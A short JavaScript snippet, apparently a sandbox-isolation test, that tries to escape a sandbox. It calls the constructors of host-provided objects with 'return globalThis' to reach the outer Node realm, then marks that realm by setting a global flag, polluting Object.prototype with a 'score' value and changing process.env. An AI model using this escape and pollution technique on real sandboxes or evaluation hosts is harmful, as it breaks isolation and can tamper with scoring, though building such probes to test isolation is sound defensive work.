const HANDED = [() => Buffer.from, () => URL, () => TextEncoder, () => require('fs').readFileSync, () => require('events'),
  () => Object.getPrototypeOf(require('fs').promises.readFile), () => fetch, () => performance.now, () => crypto.randomUUID];
const realm = () => {
  for (const from of HANDED) {
    try {
      const found = from().constructor('return globalThis')();
      if (found !== globalThis) return found;
    } catch {}
  }
};

const attack = () => {
  const there = realm();
  if (!there) return null;
  there.left = 1;
  there.Object.prototype.score = 0.75;
  there.process.env.LEFT = 'x';
  return 'reached the realm of Node';
};
const left = () => realm()?.left;
